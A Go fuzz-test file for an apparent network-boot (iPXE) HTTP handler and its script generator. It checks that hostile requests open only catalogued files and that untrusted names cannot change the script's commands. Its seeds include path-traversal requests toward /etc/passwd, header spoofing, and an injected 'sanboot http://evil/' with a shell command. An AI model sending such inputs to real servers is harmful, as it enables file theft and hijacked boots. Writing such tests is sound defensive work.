package httpboot

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/imagectl/imagectl/pxe/boot"
)

// Whatever a stranger sends, only what the catalogue lists is opened, and every answer
// has its length.
func FuzzHandler(f *testing.F) {
	for _, s := range []string{
		"GET /boot.ipxe?mac=52:54:00:00:00:01&serial=install HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /boot.ipxe?serial=hostile&platform=efi HTTP/1.0\r\n\r\n",
		"GET /ignition?serial=install HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /ignition?serial=broken HTTP/1.1\r\nHost: x\r\n\r\n",
		"HEAD /files/" + kernel.SHA256 + "/" + kernel.Name + "?stage=kernel&mac=52:54:00:00:00:01 HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /files/" + kernel.SHA256 + "/" + kernel.Name + " HTTP/1.1\r\nHost: x\r\nRange: bytes=1-2,-1\r\nIf-Match: \"x\"\r\n\r\n",
		"GET /files/" + secret.SHA256 + "/" + secret.Name + " HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /files/" + kernel.SHA256 + "/..%2f" + secret.SHA256 + "/secret HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /boot/52:54:00:00:00:01/snponly.efi HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET //../%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n",
		"POST /boot.ipxe HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		r, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(raw)))
		if err != nil {
			return
		}
		r.RemoteAddr = "192.0.2.9:1234"
		listed := []string{kernel.SHA256, initrd.SHA256, nbp.SHA256}
		h := New(Config{Source: answers(), Server: at, Programs: map[boot.Firmware]Program{boot.UEFIx64: {Blob: nbp}}, Open: func(sha string) (io.ReadSeekCloser, error) {
			if !slices.Contains(listed, sha) {
				t.Errorf("%q opens %s", raw, sha)
			}
			return open(sha)
		}})
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		got := w.Result()
		if b := w.Body.String(); strings.Contains(b, "not in the catalog") {
			t.Errorf("%q gets %q", raw, b)
		}
		if got.StatusCode == http.StatusOK && got.ContentLength < 0 {
			t.Errorf("%q: an answer without its length", raw)
		}
	})
}

// Whatever a machine calls itself and whatever is said about it, its script has the same
// commands.
func FuzzScript(f *testing.F) {
	f.Add("cp1", "it is armed", "serial", "52540000")
	f.Add("x\nshell", "it says \"x\" || sanboot http://evil/ ; ${net0/mac} `a` \\ # é\nshell", "a b&c=d#\r\n|| shell", "\x00\x01\x02\x03\x04\x05")
	f.Fuzz(func(t *testing.T, name, reason, serial, mac string) {
		commands := func(m boot.Machine, name, reason string) []string {
			var out []string
			for _, action := range []boot.Action{boot.Install, boot.Local} {
				s := Script(at, m, boot.Answer{Action: action, Name: name, Code: "armed", Reason: reason, Kernel: kernel, Initrd: []boot.Blob{initrd}})
				for line := range strings.Lines(s) {
					if strings.ContainsAny(line, "\r\x00\x1b`\"'#;") && line != "#!ipxe\n" || strings.Contains(line, "${") && !strings.Contains(line, "${try}") {
						t.Errorf("%q in the script", line)
					}
					// Every line has the words that it has for anybody, besides echo's.
					words := strings.Fields(line)
					if len(words) > 0 && words[0] == "echo" {
						words = words[:1]
					}
					out = append(out, strings.Join(words[:min(1, len(words))], ""), strings.Repeat(" ", len(words)))
				}
			}
			return out
		}
		want := commands(boot.Machine{}, "cp1", "it is armed")
		got := commands(boot.Machine{Serial: serial, UUID: serial, MAC: net.HardwareAddr(mac)}, name, reason)
		if !slices.Equal(got, want) {
			t.Errorf("got %q, want %q", got, want)
		}
	})
}
